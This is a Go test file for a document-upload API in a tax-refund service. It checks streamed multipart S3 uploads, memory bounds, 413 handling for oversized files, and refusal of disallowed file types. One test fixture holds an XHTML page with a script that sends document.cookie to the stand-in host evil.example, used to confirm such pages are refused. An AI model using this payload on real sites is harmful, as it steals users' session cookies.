package api

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/rs/zerolog"

	"github.com/taxflow/taxflow/internal/docs"
)

// fakeS3 stands in for S3: it consumes what it is sent (PutObject, or a multipart
// upload's parts) without keeping it, and records what each object and upload became.
type fakeS3 struct {
	mu       sync.Mutex
	requests []string          // "PutObject", "CreateMultipartUpload", "UploadPart", ...
	objects  map[string]int64  // key -> size, once stored
	sse      map[string]string // key -> x-amz-server-side-encryption sent
	open     map[string]int64  // upload id -> bytes received, until completed or aborted
	aborted  int
	// received counts every body byte S3 has taken; produced (set by a test) counts
	// what the client has sent the API so far: the difference is what the API holds.
	received atomic.Int64
	produced *atomic.Int64
	maxAhead int64
}

func newFakeS3(t *testing.T) (*fakeS3, *s3.Client) {
	f := &fakeS3{objects: map[string]int64{}, sse: map[string]string{}, open: map[string]int64{}}
	srv := httptest.NewServer(http.HandlerFunc(f.serve))
	t.Cleanup(srv.Close)
	c := s3.New(s3.Options{Region: "us-east-1", BaseEndpoint: aws.String(srv.URL), UsePathStyle: true,
		Credentials: aws.AnonymousCredentials{}, RetryMaxAttempts: 1})
	return f, c
}

// consume reads a request body in small pieces, noting how far the client is ahead.
func (f *fakeS3) consume(r io.Reader) int64 {
	var n int64
	buf := make([]byte, 32<<10)
	for {
		k, err := r.Read(buf)
		n += int64(k)
		f.received.Add(int64(k))
		if f.produced != nil {
			f.mu.Lock()
			f.maxAhead = max(f.maxAhead, f.produced.Load()-f.received.Load())
			f.mu.Unlock()
		}
		if err != nil {
			return n
		}
	}
}

func (f *fakeS3) serve(w http.ResponseWriter, r *http.Request) {
	key := strings.TrimPrefix(r.URL.Path, "/docs/")
	q := r.URL.Query()
	var n int64
	if r.Body != nil {
		n = f.consume(r.Body)
	}
	if d := r.Header.Get("X-Amz-Decoded-Content-Length"); d != "" {
		n, _ = strconv.ParseInt(d, 10, 64) // aws-chunked: the payload without the framing
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	switch {
	case r.Method == "PUT" && q.Has("partNumber"):
		f.requests = append(f.requests, "UploadPart")
		if _, ok := f.open[q.Get("uploadId")]; !ok {
			http.Error(w, "no such upload", http.StatusNotFound)
			return
		}
		f.open[q.Get("uploadId")] += n
		w.Header().Set("ETag", `"part"`)
	case r.Method == "PUT":
		f.requests = append(f.requests, "PutObject")
		f.objects[key], f.sse[key] = n, r.Header.Get("X-Amz-Server-Side-Encryption")
		w.Header().Set("ETag", `"object"`)
	case r.Method == "POST" && q.Has("uploads"):
		f.requests = append(f.requests, "CreateMultipartUpload")
		id := fmt.Sprintf("upload-%d", len(f.requests))
		f.open[id], f.sse[key] = 0, r.Header.Get("X-Amz-Server-Side-Encryption")
		_, _ = fmt.Fprintf(w, `<InitiateMultipartUploadResult><Bucket>docs</Bucket><Key>%s</Key><UploadId>%s</UploadId></InitiateMultipartUploadResult>`, key, id)
	case r.Method == "POST" && q.Has("uploadId"):
		f.requests = append(f.requests, "CompleteMultipartUpload")
		f.objects[key] = f.open[q.Get("uploadId")]
		delete(f.open, q.Get("uploadId"))
		_, _ = fmt.Fprintf(w, `<CompleteMultipartUploadResult><Bucket>docs</Bucket><Key>%s</Key><ETag>"object"</ETag></CompleteMultipartUploadResult>`, key)
	case r.Method == "DELETE" && q.Has("uploadId"):
		f.requests = append(f.requests, "AbortMultipartUpload")
		delete(f.open, q.Get("uploadId"))
		f.aborted++
		w.WriteHeader(http.StatusNoContent)
	default:
		http.Error(w, "not expected: "+r.Method+" "+r.URL.String(), http.StatusBadRequest)
	}
}

// pdfBody makes a PDF of size bytes as it is read, never holding it: the client side
// of a big upload costs no memory, so what the test measures is the API's.
type pdfBody struct {
	size, off int64
	produced  *atomic.Int64
}

var pdfHead, pdfEnd = []byte("%PDF-1.7\n"), []byte("\n%%EOF\n")

// letters is the filler, a-z repeated: filler byte at is letters[at%26].
var letters = bytes.Repeat([]byte("abcdefghijklmnopqrstuvwxyz"), (64<<10)/26+2)

func (b *pdfBody) Read(p []byte) (int, error) {
	if b.off >= b.size {
		return 0, io.EOF
	}
	n := int(min(int64(len(p)), b.size-b.off, 64<<10))
	copy(p[:n], letters[b.off%26:])
	// The header and the end marker take the filler's place where this read covers them.
	end := b.off + int64(n)
	for at := b.off; at < min(end, int64(len(pdfHead))); at++ {
		p[at-b.off] = pdfHead[at]
	}
	tail := b.size - int64(len(pdfEnd))
	for at := max(b.off, tail); at < end; at++ {
		p[at-b.off] = pdfEnd[at-tail]
	}
	b.off += int64(n)
	if b.produced != nil {
		b.produced.Add(int64(n))
	}
	return n, nil
}

// peakHeap samples the heap in use while fn runs and returns its peak above where it
// started. The collector runs at 10% growth meanwhile, so the heap in use follows what
// is live rather than garbage waiting for the default 100%.
func peakHeap(fn func()) uint64 {
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base, peak := ms.HeapInuse, ms.HeapInuse
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			peak = max(peak, ms.HeapInuse)
			select {
			case <-done:
				return
			case <-time.After(time.Millisecond):
			}
		}
	}()
	fn()
	close(done)
	wg.Wait()
	return peak - base
}

func uploadServer(t *testing.T) (*Server, *fakeS3) {
	f, c := newFakeS3(t)
	return &Server{S3: c, Bucket: "docs", Log: zerolog.Nop()}, f
}

// upload runs streamDocument on body as the refund route does (limit FileBodyLimit).
func upload(s *Server, body io.Reader, length int64, purpose docs.Purpose, limit int64) (*httptest.ResponseRecorder, string, int64, bool) {
	req := httptest.NewRequest("POST", "/v1/refunds/x/documents", body)
	req.ContentLength = length
	rec := httptest.NewRecorder()
	prepared := false
	key, _, size, ok := s.streamDocument(rec, req, purpose, limit, func(docs.Type) (string, bool) {
		prepared = true
		return "incoming/case/doc", true
	})
	if ok != prepared && ok {
		panic("stored without being prepared")
	}
	return rec, key, size, ok
}

// The largest document a route takes (FileBodyLimit) goes to S3 in parts as it
// arrives, with server-side encryption; the API holds a few parts, not the file.
func TestUploadStreamsTheLargestDocumentInParts(t *testing.T) {
	s, f := uploadServer(t)
	f.produced = new(atomic.Int64)
	size := int64(FileBodyLimit)
	var ok bool
	var got int64
	var rec *httptest.ResponseRecorder
	peak := peakHeap(func() {
		rec, _, got, ok = upload(s, &pdfBody{size: size, produced: f.produced}, -1, docs.Supporting, FileBodyLimit)
	})
	if !ok || got != size {
		t.Fatalf("upload: ok %v size %d: %d %s", ok, got, rec.Code, rec.Body)
	}
	if f.objects["incoming/case/doc"] != size || f.sse["incoming/case/doc"] != "AES256" || len(f.open) != 0 {
		t.Fatalf("S3 has %v (sse %v), open uploads %v", f.objects, f.sse, f.open)
	}
	if want := "CreateMultipartUpload UploadPart UploadPart CompleteMultipartUpload"; strings.Join(f.requests, " ") != want {
		t.Fatalf("requests %v, want %s", f.requests, want)
	}
	// At most the parts in flight and the one being read are held (UploadConcurrency+2).
	if bound := int64(UploadConcurrency+2)*UploadPartSize + 64<<10; f.maxAhead > bound {
		t.Fatalf("the API was %d bytes ahead of S3, over %d", f.maxAhead, bound)
	}
	t.Logf("%d-byte upload: peak heap in use %.1f MiB above the start; at most %.1f MiB read and not yet in S3",
		size, float64(peak)/(1<<20), float64(f.maxAhead)/(1<<20))
}

// The streaming itself does not depend on the file's size: through the same uploader
// (docs.MaxSize keeps documents to 10 MB, so this calls the S3 side alone), 40 MB and
// 80 MB take a few parts of memory each, far less than either body.
func TestUploaderHoldsAFewPartsOfABigBody(t *testing.T) {
	bound := int64(UploadConcurrency+2)*UploadPartSize + 64<<10
	peaks := map[int64]uint64{}
	for _, size := range []int64{40 << 20, 80 << 20} {
		s, f := uploadServer(t)
		f.produced = new(atomic.Int64)
		var err error
		peaks[size] = peakHeap(func() {
			err = s.putStream(context.Background(), "incoming/case/big", docs.PDF, &pdfBody{size: size, produced: f.produced})
		})
		if err != nil {
			t.Fatal(err)
		}
		if f.objects["incoming/case/big"] != size || f.sse["incoming/case/big"] != "AES256" {
			t.Fatalf("stored %v (sse %v)", f.objects, f.sse)
		}
		if f.maxAhead > bound {
			t.Fatalf("%d bytes: the API was %d bytes ahead of S3, over %d", size, f.maxAhead, bound)
		}
		t.Logf("%d-byte upload: peak heap in use %.1f MiB above the start; at most %.1f MiB read and not yet in S3",
			size, float64(peaks[size])/(1<<20), float64(f.maxAhead)/(1<<20))
	}
	// The parts held (UploadConcurrency+2, the first part read whole) and the garbage
	// the collector has not yet taken stay under 32 MiB, 40% of the larger body.
	for size, peak := range peaks {
		if peak > 32<<20 {
			t.Fatalf("peak heap %d bytes for a %d-byte upload: the memory grows with the body", peak, size)
		}
	}
}

// A body over the limit answers 413 naming the limit, and the multipart upload begun
// for its first part is aborted: no object, no upload left open.
func TestUploadOverTheLimitIs413AndAborted(t *testing.T) {
	s, f := uploadServer(t)
	rec, _, _, ok := upload(s, &pdfBody{size: FileBodyLimit + UploadPartSize}, -1, docs.Supporting, FileBodyLimit)
	if ok || rec.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("got %d %s", rec.Code, rec.Body)
	}
	if e := errorOf(t, rec); !strings.Contains(e.Message, strconv.Itoa(FileBodyLimit)) || !strings.Contains(e.Message, "10 MB") {
		t.Fatalf("the 413 does not name the limit: %q", e.Message)
	}
	if len(f.objects) != 0 || len(f.open) != 0 || f.aborted != 1 {
		t.Fatalf("objects %v, open uploads %v, aborted %d (requests %v)", f.objects, f.open, f.aborted, f.requests)
	}
}

// A file of the wrong type is refused on its first bytes: S3 is not called at all, and
// neither is the case lookup. A truncated file is found at its end and stores nothing.
const xhtmlPage = `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><body><script>navigator.sendBeacon("https://evil.example", document.cookie)</script></body></html>`

func TestUploadRefusedFilesStoreNothing(t *testing.T) {
	for name, c := range map[string]struct {
		body    io.Reader
		purpose docs.Purpose
		calls   string
	}{
		"executable":          {io.MultiReader(strings.NewReader("MZ\x90\x00"), bytes.NewReader(make([]byte, 8<<20))), docs.Supporting, ""},
		"docx for identity":   {strings.NewReader("PK\x03\x04 rest of a zip"), docs.Identity, ""},
		"small truncated pdf": {strings.NewReader("%PDF-1.7\n no end"), docs.Supporting, ""},
		// An XHTML page with a script, as "XML": stored, it would run when opened from a link.
		"xhtml page as an attachment": {strings.NewReader(xhtmlPage), docs.Attachment, ""},
		"xhtml page as a supporting":  {strings.NewReader(xhtmlPage), docs.Supporting, ""},
		"truncated pdf of two parts":  {io.LimitReader(&pdfBody{size: 1 << 30}, 2*UploadPartSize-100), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
		"truncated pdf of one part":   {io.LimitReader(&pdfBody{size: 1 << 30}, UploadPartSize+1), docs.Supporting, "CreateMultipartUpload AbortMultipartUpload"},
	} {
		t.Run(name, func(t *testing.T) {
			s, f := uploadServer(t)
			rec, _, _, ok := upload(s, c.body, -1, c.purpose, FileBodyLimit)
			if ok || rec.Code != http.StatusBadRequest || errorOf(t, rec).Code != "document_refused" {
				t.Fatalf("got %d %s", rec.Code, rec.Body)
			}
			// The part before the bad end may or may not have been sent when the upload is
			// aborted (two parts are in flight); what matters is that it was aborted.
			calls := strings.ReplaceAll(strings.Join(f.requests, " "), "UploadPart ", "")
			if len(f.objects) != 0 || len(f.open) != 0 || calls != c.calls {
				t.Fatalf("objects %v, open uploads %v, requests %v", f.objects, f.open, f.requests)
			}
		})
	}
}
